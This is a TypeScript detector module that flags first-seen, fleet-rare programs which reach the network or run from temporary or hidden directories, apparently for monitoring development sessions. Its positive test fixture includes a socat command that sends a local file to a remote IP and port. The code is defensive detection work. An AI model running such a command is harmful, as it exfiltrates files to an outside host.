import { intentOf, isEgress } from '../behaviour.js';
import { NO_HITS, type StreamDetector } from '../detector.js';
import { noveltyHit, perFacts, quote, warmFleet } from './novelty.js';

const thresholds = {
  min_fleet_sessions: 100,
  min_other_senders: 1,
  min_common_senders: 2,
  max_fleet_share: 0.02,
} as const;

const basename = (p: string) => p.slice(p.lastIndexOf('/') + 1);
// Shells and the basic userland are on every machine: running one is never "a new program".
const EVERYWHERE = new Set([
  'sh',
  'bash',
  'zsh',
  'dash',
  'fish',
  'env',
  'sudo',
  'xargs',
  'cat',
  'echo',
  'printf',
  'tee',
  'cd',
]);
const UNUSUAL_PLACE = /^(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|~\/\.|\/home\/[^/]+\/\.)/;

const binaryKeys = perFacts((f) => f.binaries.map((b) => `bin:${basename(b)}`));
const NO_KEYS: string[] = [];

/** A program no session of this repo ran before and few in the fleet ever ran, doing something that matters. */
export const novelBinary: StreamDetector = {
  id: 'novelty.binary',
  title: 'First-seen program',
  description:
    'A program runs for the first time in this repository and is rare across all sessions, and it reaches the network, ' +
    'carries a risky intent, or runs from a temporary or hidden directory. New tools that do none of these are only recorded.',
  severity: 'low',
  attack: ['T1218', 'T1105'],
  falsepositives: ['A developer adopting a new CLI tool that talks to its service'],
  triage: 'Is the program a known tool for this project? Where did it come from (package manager, download)?',
  thresholds,
  kind: 'novelty',
  fixtures: {
    positive: {
      history: warmFleet(100),
      session: [{ kind: 'command', command: 'socat - TCP:198.51.100.7:9001 < notes.txt', t: 0 }],
    },
    negative: {
      history: warmFleet(100),
      session: [{ kind: 'command', command: 'npm test', t: 0 }],
    },
  },
  keys(obs) {
    return obs.actionClass === 'exec' ? binaryKeys(obs.facts) : NO_KEYS;
  },
  observe(obs, s, ctx) {
    if (obs.actionClass !== 'exec') return NO_HITS;
    const ws = obs.event.cwd;
    const interesting = isEgress(obs) || intentOf(obs).length > 0;
    return obs.facts.binaries.flatMap((b) => {
      if (ws && b.startsWith(`${ws}/`)) return NO_HITS;
      if (b.startsWith('./') || b.startsWith('../') || EVERYWHERE.has(basename(b))) return NO_HITS;
      if (!interesting && !UNUSUAL_PLACE.test(b)) return NO_HITS;
      return noveltyHit(
        { id: this.id, thresholds },
        'repo',
        `bin:${basename(b)}`,
        `run of ${quote(basename(b))}`,
        obs,
        s,
        ctx,
      );
    });
  },
};
